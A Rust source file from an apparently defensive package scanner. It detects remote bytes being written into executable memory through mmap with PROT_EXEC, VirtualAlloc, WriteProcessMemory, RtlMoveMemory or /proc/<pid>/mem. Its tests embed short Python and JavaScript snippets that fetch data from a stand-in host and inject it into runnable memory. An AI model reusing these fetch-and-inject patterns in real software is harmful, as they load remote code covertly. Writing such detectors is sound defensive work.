//! Bytes that are put into memory from which they are run: that of another process, and a
//! mapping that may be run.

use crate::flow::{Analysis, Context, Site, is_foreign};
use crate::ir::{Binary, Expr, ExprId, Program};
use crate::pure::{FileId, Value};
use customs_model::{SinkKind, Target, Zone};
use std::rc::Rc;

/// The bit of a mapping's protection that lets it be run, on every system.
const MAY_BE_RUN: u64 = 4;
/// Protections that are put together with `|`.
const PROTECTIONS: u8 = 8;

impl Analysis<'_> {
    /// What a call puts into memory, by its arguments.
    pub(super) fn written_into_memory(
        &mut self,
        site: Site,
        path: &str,
        args: &[ExprId],
        zone: Zone,
        context: Option<&Rc<Context>>,
    ) {
        for arg in args {
            let labels = self.labels(site.file, *arg, context);
            for label in labels.iter().filter(|label| is_foreign(label.kind)) {
                self.flow(
                    label,
                    SinkKind::ForeignMemory,
                    path,
                    Target::Caller,
                    zone,
                    site.file,
                    site.expr,
                    Vec::new(),
                );
            }
        }
    }

    /// Whether a mapping that is written into may be run, by its protection.
    pub(super) fn may_be_run(&mut self, value: &Value) -> bool {
        let Value::Native(native) = value else {
            return false;
        };
        let Some((file, made)) = native.made_at else {
            return false;
        };
        let Some(program) = self.program(file) else {
            return false;
        };
        let Expr::Call { args, .. } = program.expr(made) else {
            return false;
        };
        let args = program.list(args).to_vec();
        let protection = protection(&program, &args);
        protection.is_some_and(|given| self.lets_run(&program, file, given, 0))
    }

    /// Whether bytes are moved to where the system was asked for memory: what is only read keeps
    /// them where Python has them.
    pub(super) fn is_asked_of_system(&mut self, file: FileId, args: &[ExprId]) -> bool {
        let to = args.first().map(|to| self.machine.fold(file, *to));
        let Some(path) = to.as_ref().and_then(Value::path) else {
            return false;
        };
        path.starts_with("ctypes.")
            && (path.ends_with(".VirtualAlloc()") || path.ends_with(".VirtualAllocEx()"))
    }

    fn lets_run(&mut self, program: &Program, file: FileId, given: ExprId, depth: u8) -> bool {
        if let Expr::Binary(Binary::Or, left, right) = program.expr(given)
            && depth < PROTECTIONS
        {
            return self.lets_run(program, file, left, depth + 1)
                || self.lets_run(program, file, right, depth + 1);
        }
        match self.machine.fold(file, given) {
            Value::Number(number) => number >= 0.0 && number as u64 & MAY_BE_RUN != 0,
            value => value.path() == Some("mmap.PROT_EXEC"),
        }
    }
}

/// The protection that a mapping of Python is made with.
fn protection(program: &Program, args: &[ExprId]) -> Option<ExprId> {
    let by_name = args.last().and_then(|last| match program.expr(*last) {
        Expr::Keywords(entries) => program
            .list(entries)
            .chunks_exact(2)
            .find(|pair| program.text(pair[0]) == Some("prot"))
            .map(|pair| pair[1]),
        _ => None,
    });
    by_name.or_else(|| {
        args.get(3)
            .copied()
            .filter(|arg| !matches!(program.expr(*arg), Expr::Keywords(_)))
    })
}

/// Whether a path is the memory of a process: `/proc/…/mem`.
pub(in crate::flow) fn is_memory(path: &str) -> bool {
    path.strip_prefix("/proc/")
        .and_then(|rest| rest.strip_suffix("/mem"))
        .is_some_and(|process| !process.contains('/'))
}

#[cfg(test)]
mod tests {
    use super::is_memory;
    use crate::flow::testing::{found, script, wheel};
    use crate::unpack::Entry;
    use customs_model::{SinkKind, SourceKind};

    fn runs_in_memory(entries: Vec<Entry>) -> bool {
        found(entries)
            .flows
            .iter()
            .any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::ForeignMemory)
    }

    const FETCHED: &str = "import mmap, requests\nc = requests.get('https://c.invalid/').content\n";

    #[test]
    fn a_mapping_is_told_by_whether_it_may_be_run() {
        for (protection, runs) in [
            (", prot=mmap.PROT_READ | mmap.PROT_EXEC", true),
            (", prot=7", true),
            (", mmap.MAP_PRIVATE, 5", true),
            (", prot=mmap.PROT_READ | mmap.PROT_WRITE", false),
            (", prot=3", false),
            ("", false),
        ] {
            let code = format!("{FETCHED}m = mmap.mmap(-1, len(c){protection})\nm.write(c)\n");
            assert_eq!(runs_in_memory(wheel(&code)), runs, "{protection}");
        }
    }

    #[test]
    fn a_function_of_the_system_is_told_by_its_name() {
        let code = |name: &str| {
            format!(
                "const k = require('ffi-napi').Library('kernel32', {{}});\nfetch('https://c.invalid/').then((r) => r.arrayBuffer()).then((b) => k.{name}(1, Buffer.from(b), 9));\n"
            )
        };
        assert!(runs_in_memory(script(&code("WriteProcessMemory"))));
        assert!(!runs_in_memory(script(&code("GetTickCount64"))));
        let code = |name: &str| {
            format!("import ctypes\n{FETCHED}ctypes.WinDLL('kernel32').{name}(1, c, len(c))\n")
        };
        assert!(runs_in_memory(wheel(&code("RtlMoveMemory"))));
        assert!(!runs_in_memory(wheel(&code("SetConsoleTitleA"))));
    }

    #[test]
    fn the_memory_of_a_process_is_a_file() {
        let code = "fetch('https://c.invalid/').then((r) => r.arrayBuffer()).then((b) => {\n  const fd = fs.openSync(`/proc/${process.ppid}/mem`, 'r+');\n  fs.writeSync(fd, Buffer.from(b));\n});\nconst fs = require('fs');\n";
        assert!(runs_in_memory(script(code)));
        assert!(is_memory("/proc/1/mem"));
        assert!(!is_memory("/proc/1/task/2/mem") && !is_memory("/proc/meminfo"));
    }
}
